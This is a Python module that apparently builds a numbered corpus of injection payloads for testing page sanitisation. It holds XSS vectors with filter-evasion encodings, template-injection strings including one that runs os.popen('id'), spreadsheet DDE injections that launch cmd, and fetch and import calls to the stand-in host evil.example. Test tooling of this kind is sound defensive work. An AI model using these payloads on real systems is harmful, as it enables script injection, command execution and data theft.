"""Words that a page might mistake for markup, code or a formula: hundreds, each with its number.

Made from parts, with `§` for the code and `№` for the number: what runs, what it breaks out of
(`BREAKS`), and how it is hidden (`HIDES`). Whatever runs sets `window.stolen` to the number of its
payload, or asks `evil.example` for something.
"""

from __future__ import annotations

import base64
import itertools
import random
from collections.abc import Callable, Iterator
from typing import Final

HOST: Final = "evil.example"
MARK: Final = "window.stolen=№"

TAGS: Final = (
    "<script>§</script>",
    "<script src=//evil.example/№.js></script>",
    '<script type="module">§</script>',
    "<img src=x onerror=§>",
    '<img src="x" onerror="§">',
    "<img/src/onerror=§>",
    "<img src=//evil.example/№.png>",
    "<svg onload=§>",
    "<svg/onload=§//",
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:§"><text y=9>点这里</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x"/></svg>',
    '<svg><image href="//evil.example/№.svg"/></svg>',
    '<svg><foreignObject><img src=x onerror="§"></foreignObject></svg>',
    "<body onload=§>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§>",
    "<details open ontoggle=§>",
    "<video><source onerror=§></video>",
    "<video src=//evil.example/№.mp4 onerror=§>",
    "<audio src=x onerror=§>",
    "<marquee onstart=§>网格</marquee>",
    "<div style='animation:x 1s' onanimationstart=§><style>@keyframes x{}</style>",
    "<p tabindex=1 autofocus onfocus=§ contenteditable>",
    '<iframe src="javascript:parent.§"></iframe>',
    '<iframe srcdoc="<script>parent.§</script>"></iframe>',
    "<iframe src=//evil.example/№></iframe>",
    '<object data="javascript:§"></object>',
    '<embed src="//evil.example/№.swf">',
    '<a href="javascript:§" autofocus>看详情</a>',
    '<form action="//evil.example/№"><input type=submit autofocus></form>',
    '<button formaction="javascript:§">受理</button>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/№">',
    '<base href="//evil.example/№/">',
    '<link rel=stylesheet href="//evil.example/№.css">',
    "<style>@import '//evil.example/№.css';</style>",
    "<style>body{background:url(//evil.example/№.png)}</style>",
    '<div style="background:url(//evil.example/№.png);width:expression(§)">',
    '<math><mtext><table><mglyph><style><img src=x onerror="§"></style></mglyph></table></mtext>',
    '<math href="javascript:§">点</math>',
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
    "<xmp><img alt='</xmp><img src=x onerror=§>'></xmp>",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<!--><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<?xml-stylesheet href='javascript:§'?>",
    "<template><img src=x onerror=§></template>",
    "<slot onslotchange=§><custom-tag onfocus=§ tabindex=0 autofocus>",
)
TEMPLATES: Final = (
    "{{constructor.constructor('§')()}}",
    "{{_c.constructor('§')()}}",
    "{{_openBlock.constructor('§')()}}",
    "{{$el.ownerDocument.defaultView.stolen=№}}",
    "{{$emit.constructor`§`()}}",
    "{{[].pop.constructor('§')()}}",
    "{{toString().constructor.constructor('§')()}}",
    "[[constructor.constructor('§')()]]",
    "{%if 1%}{{§}}{%endif%}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{config}}{{self}}{{7*№}}",
    "${constructor.constructor('§')()}",
    "#{§}",
    "<%= § %>",
    "<div v-html=\"'<img src=x onerror=§>'\"></div>",
    "<div v-on:click='§' @mouseover='§' :title='§' v-bind:is='§'></div>",
    "<component :is=\"'script'\" v-text=\"'§'\"></component>",
    "<wy-case :matter=\"constructor.constructor('§')()\"></wy-case>",
    "<div v-if=\"constructor.constructor('§')()\" v-for='x in §'></div>",
)
LINKS: Final = (
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    "\x01javascript:§",
    "javascript://%0aJ",
    "data:text/html;base64,B",
    "data:text/html,<script>§</script>",
    "vbscript:§",
    "//evil.example/№",
    "https:evil.example/№",
    "[看详情](javascript:§)",
    '![图](x"onerror="§)',
    "<javascript:§>",
    "[a]: javascript:§",
    "```html\n<img src=x onerror=§>\n```",
    "$$\\href{javascript:§}{点}$$",
)
SHEETS: Final = (
    '=HYPERLINK("//evil.example/№","点")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+№)*cmd|' /C calc'!A0",
    "+№+cmd|' /C calc'!A0",
    "-№+cmd|' /C calc'!A0",
    '=WEBSERVICE("//evil.example/№")',
    "\t=1+№",
    "＝1+№",
    '=DDE("cmd";"/C calc";"№")',
    "'\"=1+№",
)
BREAKS: Final = (
    "",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</template>",
    "-->",
    "]]>",
    "*/",
    "\"}}'}}",
    '" autofocus onfocus="§" x="',
    "' onmouseover='§' x='",
    '\\";§;//',
    "';§;//",
    "</select></option>",
    "\u202e",
    "\ufeff\u200b",
)


def _entities(words: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in words)


def _hex_entities(words: str) -> str:
    return "".join(f"&#x{ord(letter):x}" for letter in words) + ";"


HIDES: Final[tuple[Callable[[str], str], ...]] = (
    lambda words: words,
    lambda words: words.replace("§", "§e").replace("onerror", "ONERROR"),
    lambda words: words.replace("§", "§x"),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
    lambda words: words.replace("<", "%3C").replace(">", "%3E"),
    lambda words: words.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda words: words.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda words: words.replace("<", "＜").replace(">", "＞"),
    lambda words: words.replace("<", "<<").replace("script", "scr\u200bipt"),
    lambda words: words.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda words: words.replace(" ", "\n").replace("=", "\t=\n"),
    lambda words: words.replace(" ", "/").swapcase(),
    lambda words: words.replace("script", "scrscriptipt").replace("on", "oonn"),
    lambda words: words.replace("§", "eval(atob('A'))"),
    lambda words: words.replace("§", "alert(№)"),
    lambda words: words.replace("§", "fetch('//evil.example/№')"),
    lambda words: words.replace("§", "location='//evil.example/№'"),
    lambda words: words.replace("§", "import('//evil.example/№.js')"),
)


def payloads(count: int = 500, seed: int = 0) -> list[str]:
    """Return `count` payloads, no two alike: each part plain at least once, then mixtures."""
    plain = [*TAGS, *TEMPLATES, *LINKS, *SHEETS]
    mixed = [hide(f"{out}{run}") for out, hide, run in _mixtures()]
    random.Random(seed).shuffle(mixed)
    chosen = list(dict.fromkeys([*plain, *mixed]))[:count]
    return [_numbered(words, number) for number, words in enumerate(chosen, start=1)]


def _mixtures() -> Iterator[tuple[str, Callable[[str], str], str]]:
    yield from itertools.product(BREAKS, HIDES, (*TAGS, *TEMPLATES, *LINKS))


def _numbered(words: str, number: int) -> str:
    mark = MARK.replace("№", str(number))
    page = f"<script>{mark}</script>".encode()
    packed = base64.b64encode(mark.encode()).decode()
    return (
        words.replace("'A'", f"'{packed}'")
        .replace("base64,B", f"base64,{base64.b64encode(page).decode()}")
        .replace("§e", _entities(mark))
        .replace("§x", _hex_entities(mark))
        .replace("§", mark)
        .replace("№", str(number))
    )


def matters(words: list[str], longest: int) -> list[str]:
    """Return the payloads, one a line, in as few texts as hold them."""
    texts: list[str] = []
    for one in words:
        if texts and len(texts[-1]) + len(one) + 1 <= longest:
            texts[-1] += f"\n{one}"
        else:
            texts.append(one)
    return texts
